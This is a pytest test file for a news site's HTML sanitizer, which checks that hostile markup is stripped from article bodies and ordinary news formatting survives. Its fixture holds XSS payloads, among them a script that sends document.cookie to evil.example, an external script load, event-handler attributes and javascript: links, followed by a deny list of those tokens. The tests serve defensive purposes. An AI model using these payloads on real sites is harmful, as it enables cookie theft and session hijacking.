import pytest

from articles.sanitize import sanitize_body
from tests.factories import ArticleFactory
from tests.html import assert_in_html

HOSTILE = """
<p style="color: red" onclick="steal()">Council <strong>approves</strong> budget</p>
<script>document.location='https://evil.example/?c='+document.cookie</script>
<SCRIPT src="https://evil.example/x.js"></SCRIPT>
<img src="https://example.org/a.jpg" alt="Harbour" onerror="alert(1)">
<img src="/media/pictures/0123456789abcdef0123456789abcdef.jpg" alt="Quay" onerror="alert(1)">
<a href="javascript:alert(1)">click</a>
<a href="JaVaScRiPt:alert(2)">again</a>
<a href=" javascript:alert(3)">spaced</a>
<a href="https://example.org/report" onmouseover="x()">the report</a>
<iframe src="https://evil.example/"></iframe>
<style>body { display: none }</style>
<svg onload="alert(4)"><circle></circle></svg>
<h2>Reaction</h2>
<blockquote>We are delighted.</blockquote>
<ul><li>One</li><li>Two</li></ul>
"""


def test_hostile_markup_does_not_survive():
    clean = sanitize_body(HOSTILE).lower()
    for forbidden in (
        "<script",
        "document.cookie",
        "onerror",
        "onclick",
        "onmouseover",
        "onload",
        "javascript:",
        "style=",
        "<style",
        "display: none",
        "<iframe",
        "<svg",
    ):
        assert forbidden not in clean


def test_news_markup_survives():
    clean = sanitize_body(HOSTILE)
    assert_in_html("<strong>approves</strong>", clean)
    # Only the media library's pictures: another host's would learn who reads the story.
    assert_in_html(
        '<img src="/media/pictures/0123456789abcdef0123456789abcdef.jpg" alt="Quay">', clean
    )
    assert "example.org/a.jpg" not in clean
    assert_in_html('<a href="https://example.org/report">the report</a>', clean)
    assert_in_html("<h2>Reaction</h2>", clean)
    assert_in_html("<blockquote>We are delighted.</blockquote>", clean)
    assert_in_html("<ul><li>One</li><li>Two</li></ul>", clean)


@pytest.mark.django_db
def test_body_is_sanitized_when_the_article_is_saved():
    article = ArticleFactory(body='<p onclick="x()">Hi</p><script>alert(1)</script>')
    article.refresh_from_db()
    assert article.body == "<p>Hi</p>"
